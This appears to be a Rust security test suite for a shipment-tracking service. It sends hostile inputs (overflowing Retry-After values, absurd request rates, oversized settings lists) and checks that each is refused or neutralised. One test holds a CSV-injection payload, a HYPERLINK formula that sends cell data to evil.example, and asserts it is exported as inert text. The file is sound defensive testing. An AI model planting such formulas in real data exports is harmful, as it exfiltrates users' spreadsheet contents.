//! Hostile input, sent the way an attacker would with an ordinary merchant API key or as a
//! stranger on the internet: none of it stops a role, slows another tenant or leaks.

use chrono::Utc;
use serde_json::{Value, json};

use crate::fake_carriers::{self, CLIENT_ID, CLIENT_SECRET};
use crate::helpers::{TestApp, number, shipment_body};

/// The year 4.4 million, in seconds from now: far past what a clock can hold.
const ABSURD_RETRY_AFTER: u64 = 100_000_000_000_000;

#[tokio::test]
async fn attack_webhook_retry_after_does_not_kill_the_notifier() {
    let (url, receiver) = crate::webhooks::start_receiver();
    receiver.lock().unwrap().script = vec![(503, Some(ABSURD_RETRY_AFTER)); 10];
    let app = crate::webhooks::app(true).await;
    let (_, key) = app.create_merchant("Acme").await;
    app.subscribe_webhook(&key, &format!("{url}/hook"), &["shipment.delivered"])
        .await;
    // Every step of the journey runs the notifier; before the fix the first 503 killed it.
    let (_, sent) =
        crate::notify::deliver_on_time(&app, &key, &shipment_body(&number("OT")), true).await;
    assert!(sent > 0, "the customer's messages still went out");
    let (_, queued) = app
        .get_json(&key, "/api/v1/notifications?status=queued")
        .await;
    let hook = queued["notifications"]
        .as_array()
        .unwrap()
        .iter()
        .find(|n| n["channel"] == "webhook")
        .expect("the webhook waits for its retry");
    let next: chrono::DateTime<Utc> = hook["next_at"].as_str().unwrap().parse().unwrap();
    assert!(
        next <= Utc::now() + chrono::Duration::hours(25),
        "Retry-After is capped at a day: {next}"
    );
}

async fn put_account(app: &TestApp, key: &str, body: Value) -> (u16, Value) {
    let resp = app
        .http
        .put(app.url("/api/v1/carriers/ups"))
        .bearer_auth(key)
        .json(&body)
        .send()
        .await
        .unwrap();
    (
        resp.status().as_u16(),
        resp.json().await.unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn attack_carrier_rate_does_not_kill_the_poller() {
    let fake = fake_carriers::start().await;
    let app = crate::accounts::app(&fake).await;
    let (merchant, key) = app.create_merchant("Acme").await;
    let creds = json!({"client_id": CLIENT_ID, "client_secret": CLIENT_SECRET});
    for rate in [json!(1e-14), json!(0), json!(-1), json!(1e6)] {
        let (status, problem) = put_account(
            &app,
            &key,
            json!({"credentials": creds, "requests_per_second": rate}),
        )
        .await;
        assert_eq!(
            (status, problem["errors"][0]["field"].as_str()),
            (422, Some("requests_per_second")),
            "{rate}: {problem}"
        );
    }
    let (_, list) = app.get_json(&key, "/api/v1/carriers").await;
    assert_eq!(list["accounts"], json!([]), "nothing saved");

    // A rate stored before the bound existed (written straight into Redis) is not obeyed.
    let (status, _) = put_account(
        &app,
        &key,
        json!({"credentials": creds, "requests_per_second": 1}),
    )
    .await;
    assert_eq!(status, 200);
    let field = app
        .parts
        .store
        .keys()
        .accounts(&shipmate::domain::MerchantId::parse(&merchant).unwrap());
    let mut conn = app.parts.store.connection();
    let stored: String = redis::cmd("HGET")
        .arg(&field)
        .arg("ups")
        .query_async(&mut conn)
        .await
        .unwrap();
    let mut stored: Value = serde_json::from_str(&stored).unwrap();
    stored["requests_per_second"] = json!(1e-14);
    let () = redis::cmd("HSET")
        .arg(&field)
        .arg("ups")
        .arg(stored.to_string())
        .query_async(&mut conn)
        .await
        .unwrap();

    let numbers = ["1Z8V92A70367203024", "1Z5R89390357567127"];
    for n in numbers {
        fake.answer(n, 200, json!({"trackResponse": {"shipment": [{"package": [{"activity": [
            {"date": "20260210", "time": "101500", "gmtOffset": "-05:00", "status": {"type": "I", "code": "DP", "description": "Departed from Facility"}}]}]}]}}).to_string());
    }
    let mut body = shipment_body(numbers[0]);
    body["carrier"] = json!("ups");
    app.post_shipment(&key, &body).await;
    assert_eq!(app.poll_at(Utc::now()).await.claimed, 1);
    body["tracking_number"] = json!(numbers[1]);
    let second: Value = app.post_shipment(&key, &body).await.json().await.unwrap();
    // The second request meets the gate's pace: before the fix, a wait of 10^17 ms
    // overflowed the clock and the poller died.
    let now = Utc::now();
    let polled = app.poll_at(now).await;
    assert_eq!(polled.claimed, 1);
    let next: chrono::DateTime<Utc> = app.shipment(&key, &second).await["next_poll_at"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!(next <= now + chrono::Duration::days(1), "{next}");
}

#[tokio::test]
async fn attack_outbox_page_is_off_by_default() {
    let app = crate::helpers::spawn_app_with(crate::helpers::Options {
        configure: Box::new(|c| c.notifier.channels = vec![shipmate::domain::Channel::Outbox]),
        ..Default::default()
    })
    .await;
    let (_, key) = app.create_merchant("Acme").await;
    crate::notify::deliver_on_time(&app, &key, &shipment_body(&number("OT")), true).await;
    assert!(
        std::fs::read_dir(&app.parts.config.notifier.outbox_dir)
            .unwrap()
            .count()
            > 0,
        "messages were written"
    );
    assert_eq!(
        app.page("/dev/outbox").await.0,
        404,
        "nobody on the internet reads them"
    );
}

async fn put_settings(app: &TestApp, key: &str, body: Value) -> (u16, Value) {
    let resp = app
        .http
        .put(app.url("/api/v1/notification-settings"))
        .bearer_auth(key)
        .json(&body)
        .send()
        .await
        .unwrap();
    (
        resp.status().as_u16(),
        resp.json().await.unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn attack_ten_thousand_feedback_delays_are_refused() {
    let app = crate::helpers::spawn_app().await;
    let (_, key) = app.create_merchant("Acme").await;
    let flood = vec!["1h"; 10_000];
    let (status, problem) = put_settings(&app, &key, json!({"feedback_after": flood})).await;
    assert_eq!(
        (status, problem["errors"][0]["field"].as_str()),
        (422, Some("feedback_after")),
        "{problem}"
    );
    let (status, problem) = put_settings(&app, &key, json!({"feedback_after": ["1m"]})).await;
    assert_eq!(
        (status, problem["errors"][0]["field"].as_str()),
        (422, Some("feedback_after[0]")),
        "at least an hour: {problem}"
    );
    let (status, problem) = put_settings(&app, &key, json!({"daily_cap": 1_000_000})).await;
    assert_eq!(
        (status, problem["errors"][0]["field"].as_str()),
        (422, Some("daily_cap"))
    );
    let (_, saved) = app.get_json(&key, "/api/v1/notification-settings").await;
    assert!(
        saved.get("feedback_after").is_none(),
        "nothing saved: {saved}"
    );
    let (status, _) = put_settings(&app, &key, json!({"feedback_after": ["2h", "1d", "3d"]})).await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn attack_csv_injection_is_neutralised() {
    let app = crate::helpers::spawn_app().await;
    let (_, key) = app.create_merchant("Acme").await;
    let s: Value = app
        .post_shipment(&key, &shipment_body(&number("OT")))
        .await
        .json()
        .await
        .unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let sent = crate::feedback::send_form(&s, &[("rating", "1"), ("comment", formula)]).await;
    assert_eq!(sent.status(), 200);
    let csv = app
        .http
        .get(app.url("/api/v1/feedback.csv"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = csv.lines().nth(1).unwrap();
    let comment = row.split(",1,,").nth(1).unwrap();
    assert!(
        comment.starts_with("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"),
        "a spreadsheet shows it as text: {row}"
    );
}
